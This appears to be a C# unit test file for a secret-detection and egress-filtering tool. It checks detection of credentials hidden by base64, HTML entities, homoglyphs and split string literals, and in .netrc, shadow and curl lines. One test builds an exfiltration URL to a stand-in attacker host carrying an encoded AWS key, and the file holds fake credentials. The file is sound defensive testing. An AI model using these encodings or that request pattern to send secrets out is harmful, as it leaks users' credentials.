using System.Text;
using BotBottle.Dlp;
using static BotBottle.Tests.Dlp.DlpTestHelpers;

namespace BotBottle.Tests.Dlp;

/// <summary>
/// Issue 16, second round: what a red-team probe of a coding agent's environment found missing — encoded
/// <c>user:password</c> (Docker, npm), HTML character references, homoglyphs, <c>#</c> inside passwords, <c>.netrc</c>,
/// crypt(3) hashes, credentials on command lines. Spans, layer chains and the lines not crossed.
/// </summary>
public sealed class RedTeamTests
{
    private static string B64(string s) => Convert.ToBase64String(Encoding.UTF8.GetBytes(s));

    [Fact]
    public void Docker_auth_and_npm_auth_are_reported_over_the_base64_value()
    {
        string auth = B64("octocat:Xk9#mQ2vLr7!pZ");
        string docker = "{\"auths\": {\"https://index.docker.io/v1/\": {\"auth\": \"" + auth + "\"}}}";
        var f = Assert.Single(Scan(docker), x => x.RuleId == "encoded-user-password");
        Assert.Equal((auth, DlpEncodings.Base64), (docker.Substring(f.Start, f.Length), f.Encoding));
        Assert.Contains(Scan("//npm.pkg.github.com/:_auth=" + auth + "\n"), x => x.RuleId == "encoded-user-password");
    }

    [Theory]
    [InlineData("Repository:5f8d0d55b54764421b7156c3")] // graphql-relay global id
    [InlineData("04:User583231")] // GitHub legacy node_id
    [InlineData("cursor:v2:92af01bc")]
    [InlineData("anonymous:")]
    [InlineData("user:password")]
    [InlineData("time:12:30:00.000")]
    [InlineData("https://example.com/docs/index.html")]
    [InlineData("just some ordinary text")]
    public void Ids_cursors_placeholders_and_text_in_base64_are_not_user_password(string decoded)
    {
        Assert.DoesNotContain(Scan("{\"id\": \"" + B64(decoded) + "\"}"), x => x.RuleId == "encoded-user-password");
    }

    [Fact]
    public void Html_numeric_references_are_a_layer_with_the_segment_as_span()
    {
        string key = Tokens.Samples["openai-api-key"];
        string encoded = string.Concat(key.Select(c => "&#" + (int)c + ";"));
        string hex = string.Concat(key.Select(c => "&#x" + ((int)c).ToString("x", System.Globalization.CultureInfo.InvariantCulture) + ";"));
        foreach (var e in new[] { encoded, hex })
        {
            string text = "<p>" + e + "</p>";
            var f = Assert.Single(Scan(text), x => x.RuleId == "openai-api-key");
            Assert.Equal((e, DlpEncodings.HtmlEntity), (text.Substring(f.Start, f.Length), f.Encoding));
        }

        Assert.Empty(Scan("<p>It&#39;s &#8220;fine&#8221; &amp; ok &#8212; really&#33;</p>"));
    }

    [Theory]
    [InlineData("\u0410KIA")] // Cyrillic A
    [InlineData("A\u039AIA")] // Greek Kappa
    public void Cyrillic_and_Greek_look_alikes_fold_to_ascii(string prefix)
    {
        string key = Tokens.Samples["aws-access-key-id"];
        string text = "key " + prefix + key[4..] + " end";
        var f = Assert.Single(Scan(text), x => x.RuleId == "aws-access-key-id");
        Assert.Contains(DlpEncodings.Unicode, f.Encoding, StringComparison.Ordinal);
        Assert.Empty(Scan("Привет, мир! α = 0.5, ρ = 1.2, Ελληνικά κείμενα."));
    }

    [Theory]
    [InlineData("DB_PASSWORD=Xk9#mQ2vLr7!pZ\n", "Xk9#mQ2vLr7!pZ")]
    [InlineData("https://alice:Xk9#mQ2vLr7!pZ@github.com\n", "alice:Xk9#mQ2vLr7!pZ")]
    public void A_hash_sign_inside_a_password_does_not_end_it(string text, string value)
    {
        var f = Assert.Single(Scan(text));
        Assert.Equal(value, text.Substring(f.Start, f.Length));
    }

    [Fact]
    public void A_hash_sign_still_starts_comments_and_colours_are_not_secrets()
    {
        Assert.Empty(Scan("api_token: #ff00aa\ncolor_token = \"#00ff00\"\nhttps://example.com:8443#section\n"));
    }

    [Fact]
    public void Netrc_passwords_are_reported_and_prose_is_not()
    {
        string netrc = "machine api.heroku.com\n  login me@example.com\n  password 01234567-89ab-cdef-0123-456789abcdef\n";
        var f = Assert.Single(Scan(netrc));
        Assert.Equal("01234567-89ab-cdef-0123-456789abcdef", netrc.Substring(f.Start, f.Length));
        Assert.Single(Scan("machine ftp.example.org login alice password S3cr3tPass\n"));
        Assert.Empty(Scan("On a shared machine, login first; the password field must not be empty. password reset\n"));
    }

    [Fact]
    public void Crypt_hashes_in_shadow_and_htpasswd_lines_are_reported_and_json_fixtures_are_not()
    {
        string hash = "$6$" + Tokens.Random(Tokens.Base62, 16, 1) + "$" + Tokens.Random(Tokens.Base62 + "./", 86, 2);
        string shadow = "root:" + hash + ":19700:0:99999:7:::\ndaemon:*:19700:0:99999:7:::\n";
        var f = Assert.Single(Scan(shadow));
        Assert.Equal(hash, shadow.Substring(f.Start, f.Length));
        Assert.Single(Scan("admin:$2y$10$" + Tokens.Random(Tokens.Base62 + "./", 53, 3) + "\n"));
        Assert.Empty(Scan("{\"password_hash\": \"$2b$12$" + Tokens.Random(Tokens.Base62 + "./", 53, 4) + "\"}\nThe format is $6$salt$hash.\nroot:x:0:0:root:/root:/bin/bash\n"));
    }

    [Theory]
    [InlineData("curl -u admin:Xk9mQ2vLr7 https://jenkins.internal/api/json", "Xk9mQ2vLr7")]
    [InlineData("curl --user admin:Xk9mQ2vLr7 https://jenkins.internal/", "Xk9mQ2vLr7")]
    [InlineData("curl -H 'Authorization: Bearer k7Hq2vXz9LmP4wRt8YbN3cDf6GjS1aEu' https://api.internal/", "k7Hq2vXz9LmP4wRt8YbN3cDf6GjS1aEu")]
    [InlineData("{\"headers\": {\"Authorization\": \"Bearer k7Hq2vXz9LmP4wRt8YbN3cDf6GjS1aEu\"}}", "k7Hq2vXz9LmP4wRt8YbN3cDf6GjS1aEu")]
    public void Credentials_on_command_lines_are_reported_over_the_secret(string line, string secret)
    {
        var f = Assert.Single(Scan(line + "\n"));
        Assert.Equal(("credential-assignment", secret), (f.RuleId, line.Substring(f.Start, f.Length)));
    }

    [Theory]
    [InlineData("curl -u $USER:$TOKEN https://api.example.com/")]
    [InlineData("curl -u user:password https://api.example.com/")]
    [InlineData("curl --user-agent 'Mozilla/5.0' https://example.com/")]
    [InlineData("mysql -u root -p mydb")]
    [InlineData("sshpass -p \"$SSHPASS\" ssh host")]
    [InlineData("docker login -u ci --password-stdin ghcr.io")]
    [InlineData("curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user")]
    [InlineData("Use a Bearer token: the bearer k7Hq2vXz9LmP4wRt8YbN3cDf6GjS1aEu header is set by the proxy")]
    public void Command_lines_with_references_or_placeholders_are_not_reported(string line)
    {
        Assert.Empty(Scan(line + "\n"));
    }

    [Theory]
    [InlineData("key = \"{0}\" + \"{1}\"\n")]
    [InlineData("const t = '{0}'+'{1}';\n")]
    [InlineData("{{\"code\": \"key = \\\"{0}\\\" + \\\"{1}\\\"\"}}")]
    public void String_literals_joined_with_plus_are_scanned_as_one(string template)
    {
        string key = Tokens.Samples["openai-api-key"];
        string text = string.Format(System.Globalization.CultureInfo.InvariantCulture, template, key[..24], key[24..]);
        // (r36: the first literal, 21 characters after sk-, is also a short key of its own, reported unvalidated)
        var f = Assert.Single(Scan(text), x => x.RuleId == "openai-api-key" && x.Encoding == DlpEncodings.Concat);
        Assert.StartsWith(key[..24], text.Substring(f.Start, f.Length).TrimStart('\\', '"', '\''), StringComparison.Ordinal);
        Assert.Empty(Scan("msg = \"Hello, \" + \"world\" + name + \"!\"\nurl = \"https://example.com/api/\" + \"v1/items?page=\" + page\n"));
    }

    [Fact]
    public void A_reason_names_its_layer_chain_once()
    {
        using var dir = new TempDirectory("bbredteam");
        string routes = dir.WriteFile("routes.yaml", "routes:\n  - host: attacker.example\n    dlp: {outbound_on_match: block}\n");
        var verdict = BotBottle.Egress.EgressCheck.Evaluate(new BotBottle.Egress.CompiledEgressPolicy(BotBottle.Manifest.RoutesFile.Load(routes)), new BotBottle.Egress.EgressInspector(Engine),
            new BotBottle.Egress.EgressCheckRequest { Method = "GET", Url = "https://attacker.example/c?d=" + B64("key " + Tokens.Samples["aws-access-key-id"] + " end"), Headers = [], Body = ReadOnlyMemory<byte>.Empty });
        string message = Assert.Single(verdict.Reasons).Message;
        Assert.EndsWith("in query:d (base64-encoded)", message, StringComparison.Ordinal);
    }

    [Fact]
    public void The_request_s_own_Authorization_header_is_left_to_the_authorization_rule()
    {
        var findings = Engine.ScanRequest(Request(headers: [("Authorization", "Bearer k7Hq2vXz9LmP4wRt8YbN3cDf6GjS1aEu")]), DlpDetectors.All).Findings;
        Assert.Equal("authorization-credential", Assert.Single(findings).RuleId);
    }

    [Fact]
    public void Headerless_der_keys_are_reported_and_public_keys_and_certificates_are_not()
    {
        string der = Tokens.Samples["private-key-der"];
        string wrapped = string.Join('\n', Enumerable.Range(0, (der.Length + 63) / 64).Select(i => der.Substring(i * 64, Math.Min(64, der.Length - (i * 64)))));
        var f = Assert.Single(Scan(wrapped + "\n"));
        Assert.Equal(("private-key-der", wrapped), (f.RuleId, wrapped.Substring(f.Start, f.Length)));

        // SubjectPublicKeyInfo of an RSA key and an X.509 certificate start with other bytes.
        Assert.Empty(Scan("MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA" + Tokens.Random(Tokens.B64, 300, 5) + "\n"));
        Assert.Empty(Scan("MIIDazCCAlOgAwIBAgIUB2q" + Tokens.Random(Tokens.B64, 300, 6) + "\n"));

        // Inside PEM armor the private-key rule reports the block, once.
        var pem = Scan("-----BEGIN RSA PRIVATE KEY-----\n" + wrapped + "\n-----END RSA PRIVATE KEY-----\n");
        Assert.Equal("private-key", Assert.Single(pem).RuleId);
    }

    [Theory]
    [InlineData("https://example.com/api/webhooks/123456789012345678/" + "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdef")]
    [InlineData("PuTTY-User-Key-File-3 is the first line of a .ppk file.")]
    [InlineData("the ratio 20240101:AB was logged at 10:30:00")]
    [InlineData("version MTIzNDU2Nzg5MDEyMzQ1Njc4.abcdef.short")]
    [InlineData("client_secret_file = \"secret_" + "client_config_for_the_installed_application\"")]
    [InlineData("rapidapi dapi_version r8_reg gsk_test pul-request hvs.length")]
    public void Near_misses_of_the_new_formats_are_not_reported(string text)
    {
        Assert.Empty(Scan(text + "\n"));
    }
}
